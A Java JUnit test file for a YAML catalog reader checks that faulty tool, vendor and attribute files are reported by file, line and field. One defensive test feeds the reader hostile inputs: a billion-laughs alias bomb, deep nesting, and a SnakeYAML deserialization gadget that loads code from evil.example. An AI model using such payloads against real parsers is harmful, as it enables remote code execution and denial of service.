package io.parley.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CatalogReaderTest {
    private static final LocalDate TODAY = LocalDate.of(2026, 11, 23);
    private static final String ATTRIBUTES = """
            - {key: encrypted, group: confidentiality, type: choice, values: ['yes', 'no']}
            - {key: methods, group: two-factor, type: set, values: [none, sms, totp]}
            - {key: size, group: basics, type: number, unit: MB}
            - {key: country, group: legal, type: text}
            """;
    private static final String VENDORS = "- {slug: maker, name: Maker, homepage: 'https://maker.example'}\n";

    /** Line 1 is slug, 8 the first fact, 15 the second, 18 the third. */
    private static final String TOOL = """
            slug: chat
            name: Chat
            vendor: maker
            category: team-chat
            website: https://chat.example
            domains: [chat.example]
            facts:
              - attribute: encrypted
                value: 'yes'
                source: https://chat.example/security
                kind: vendor-page
                observed: 2026-11-23
                confidence: A
                note: By default
              - attribute: methods
                searched: 2026-11-22
                source: https://chat.example/help
              - attribute: size
                value: 100
                source: https://chat.example/limits
                kind: press
                observed: 2026-01-31
                confidence: C
            """;

    @Test
    void aGoodFileIsReadWhole() {
        var content = CatalogReader.read(files(TOOL), TODAY);
        var tool = content.tools().get(0);
        assertThat(tool.tool().name).isEqualTo("Chat");
        assertThat(tool.tool().domains).containsExactly("chat.example");
        assertThat(tool.facts())
                .extracting(f -> List.of(f.answer))
                .containsExactly(List.of("yes"), List.of(), List.of("100"));
        assertThat(tool.facts().get(0).observedOn).isEqualTo(TODAY);
        assertThat(tool.facts().get(1).observedOn).isEqualTo(LocalDate.of(2026, 11, 22));
        assertThat(tool.facts().get(1).confidence).isNull();
    }

    /** What is written instead of a line, and where the fault must be found. */
    @ParameterizedTest(name = "line {0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            9  | `    value: maybe`               | 9  | facts[0].value      | is none of yes, no
            9  | `    value: yes`                 | 9  | facts[0].value      | must be text
            9  | `    value: [yes]`               | 9  | facts[0].value      | must be text
            9  | `    value: ''`                  | 9  | facts[0].value      | one line of 1 to
            9  | `    searched: 2026-11-01`       | 11 | facts[0].kind       | belongs to a value
            9  | `    worth: 'yes'`               | 9  | facts[0].worth      | is no field
            9  | ``                               | 8  | facts[0].value      | not neither
            16 | `    searched: 2026-11-24`       | 16 | facts[1].searched   | is in the future
            12 | `    observed: 2026-11-24`       | 12 | facts[0].observed   | is in the future
            12 | `    observed: 2026-02-30`       | 12 | facts[0].observed   | must be a day
            12 | `    observed: 23 November`      | 12 | facts[0].observed   | must be a day
            12 | `    observed: 1999-12-31`       | 12 | facts[0].observed   | before the year 2000
            12 | ``                               | 8  | facts[0].observed   | is missing
            13 | `    confidence: D`              | 13 | facts[0].confidence | must be A, B or C
            11 | `    kind: rumour`               | 11 | facts[0].kind       | is none of vendor-page
            10 | `    source: http://chat.example`| 10 | facts[0].source     | https address
            10 | `    source: see the website`    | 10 | facts[0].source     | https address
            10 | `    source: https://me@x.example`| 10 | facts[0].source    | https address
            15 | `  - attribute: encrypted`       | 15 | facts[1].attribute  | answered twice
            15 | `  - attribute: colour`          | 15 | facts[1].attribute  | is no question
            19 | `    value: -1`                  | 19 | facts[2].value      | number of MB
            19 | `    value: '100'`               | 19 | facts[2].value      | number of MB
            19 | `    value: .inf`                | 19 | facts[2].value      | number of MB
            19 | `    value: many`                | 19 | facts[2].value      | number of MB
            1  | `slug: talk`                     | 1  | slug                | not the name of the file
            1  | `slug: Chat`                     | 1  | slug                | small letters
            2  | ``                               | 1  | name                | is missing
            2  | `name: 7`                        | 2  | name                | must be text
            3  | `vendor: somebody`               | 3  | vendor              | none of the vendors files
            4  | `category: smoke-signals`        | 4  | category            | is none of private-messenger
            5  | `website: ftp://chat.example`    | 5  | website             | https address
            5  | `name: Chat again`               | 5  | name                | is there twice
            6  | `domains: chat.example`          | 6  | domains             | must be a list
            6  | `domains: &a [*a]`               | 6  | &a                  | references
            6  | `domains: [chat.example`         | 7  | file                | is not YAML
            6  | `domains: []\\ncolour: red`      | 7  | colour              | is no field
            """)
    void aFaultNamesFileLineAndField(int replaced, String with, int line, String field, String problem) {
        var fault = faults(files(replace(replaced, with == null ? "" : with.replace("\\n", "\n")))).stream()
                .filter(f -> f.field().equals(field) && f.problem().contains(problem))
                .findFirst();
        assertThat(fault).as("%s %s", field, problem).isPresent();
        assertThat(fault.get().file()).isEqualTo("tools/chat.yaml");
        assertThat(fault.get().line()).isEqualTo(line);
    }

    @Test
    void severalFaultsInSeveralFilesAreToldTogether() {
        var files = files(TOOL.replace("value: 'yes'", "value: perhaps").replace("confidence: C", "confidence: Z"));
        files.put(
                "vendors-2.yaml", "- {slug: maker, name: Again}\n- {slug: b, name: B, homepage: 'http://b.example'}\n");
        files.put("tools/other.yaml", "slug: other\n");
        assertThat(faults(files))
                .extracting(f -> f.file() + ":" + f.line() + " " + f.field())
                .containsSubsequence(
                        "tools/chat.yaml:9 facts[0].value",
                        "tools/chat.yaml:23 facts[2].confidence",
                        "tools/other.yaml:1 name",
                        "vendors-2.yaml:2 [1].homepage",
                        "vendors.yaml:1 [0].slug");
    }

    @Test
    void theMessageReadsAsAList() {
        var thrown = thrown(files(TOOL.replace("category: team-chat", "category: x")));
        assertThat(thrown)
                .hasMessageStartingWith(
                        "1 faults in the shipped files, nothing was loaded:\n  tools/chat.yaml:4 category: \"x\" is none of");
        assertThat(thrown.getStackTrace()).isEmpty();
    }

    @Test
    void questionsAndVendorsAreCheckedToo() {
        var files = files(TOOL);
        files.put(
                "attributes.yaml",
                ATTRIBUTES + "- {key: size, group: nowhere, type: number}\n- {key: x, group: legal, type: choice}\n");
        files.put(
                "vendors.yaml",
                VENDORS
                        + "- {slug: b, name: B, country: Malta}\n- {slug: c, name: C, speaks-at: ['https://c.example']}\n");
        files.put("notes.yaml", "a: b");
        assertThat(faults(files))
                .extracting(Fault::toString)
                .anyMatch(f -> f.startsWith("vendors.yaml:3 [2].speaks-at: \"https://c.example\" is neither a host"));
        assertThat(faults(files))
                .extracting(Fault::toString)
                .anyMatch(f -> f.startsWith("attributes.yaml:5 [4].group: \"nowhere\" is none of"))
                .contains("attributes.yaml:6 [5].values: is missing", "vendors.yaml:2 [1].source: is missing")
                .contains("notes.yaml:1 file: is neither attributes.yaml, vendors*.yaml nor in tools/");
    }

    @Test
    void aQuestionWaitsOnlyForOneAboveIt() {
        var files = files(TOOL);
        files.put(
                "attributes.yaml",
                ATTRIBUTES + "- {key: a, group: legal, type: text, only-if: b, is: ['yes']}\n"
                        + "- {key: b, group: legal, type: text, only-if: encrypted, is: [maybe]}\n"
                        + "- {key: c, group: legal, type: text, only-if: encrypted}\n");
        assertThat(faults(files))
                .extracting(Fault::toString)
                .containsExactly(
                        "attributes.yaml:5 [4].only-if: \"b\" is no question above this one",
                        "attributes.yaml:6 [5].is: must name answers of encrypted",
                        "attributes.yaml:7 [6].is: is missing");
    }

    @Test
    void twoToolsOfOneNameAreAFault() {
        var files = files(TOOL);
        files.put(
                "tools/chat-2.yaml", TOOL.replace("slug: chat", "slug: chat-2").replace("name: Chat", "name: CHAT"));
        assertThat(faults(files)).extracting(Fault::field).containsExactly("name");
    }

    @Test
    void noneStandsAloneAndNothingIsNamedTwice() {
        var searched = "    searched: 2026-11-22\n    source: https://chat.example/help\n";
        var known =
                "    value: %s\n    source: https://chat.example/help\n    kind: press\n    observed: 2026-11-22\n    confidence: B\n";
        assertThat(faults(files(TOOL.replace(searched, known.formatted("[none, sms]")))))
                .extracting(Fault::problem)
                .containsExactly("\"none\" stands alone");
        assertThat(faults(files(TOOL.replace(searched, known.formatted("[sms, sms]")))))
                .extracting(Fault::problem)
                .containsExactly("names something twice");
        assertThat(faults(files(TOOL.replace(searched, known.formatted("[]")))))
                .extracting(Fault::field)
                .containsExactly("facts[1].value");
    }

    @Test
    void hostileFilesAreRefusedQuickly() {
        var deep = "[".repeat(5_000) + "]".repeat(5_000);
        var laughs = "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n";
        var large = "slug: " + "x".repeat(300_000);
        var object = "!!javax.script.ScriptEngineManager [!!java.net.URL ['https://evil.example']]";
        for (var text : List.of(deep, laughs, large, object, "", "---\na: b\n---\nc: d\n", "\u0000", "\t- x")) {
            assertThat(faults(files(text)))
                    .as(text.substring(0, Math.min(20, text.length())))
                    .isNotEmpty();
        }
    }

    private static String replace(int line, String with) {
        var lines = new ArrayList<>(Arrays.asList(TOOL.split("\n")));
        if (with.isEmpty()) {
            lines.remove(line - 1);
        } else {
            lines.set(line - 1, with);
        }
        return String.join("\n", lines) + "\n";
    }

    private static Map<String, String> files(String tool) {
        var files = new TreeMap<String, String>();
        files.put("attributes.yaml", ATTRIBUTES);
        files.put("vendors.yaml", VENDORS);
        files.put("tools/chat.yaml", tool);
        return files;
    }

    private static List<Fault> faults(Map<String, String> files) {
        return thrown(files).faults();
    }

    private static FaultyFilesException thrown(Map<String, String> files) {
        return catchThrowableOfType(FaultyFilesException.class, () -> CatalogReader.read(files, TODAY));
    }
}
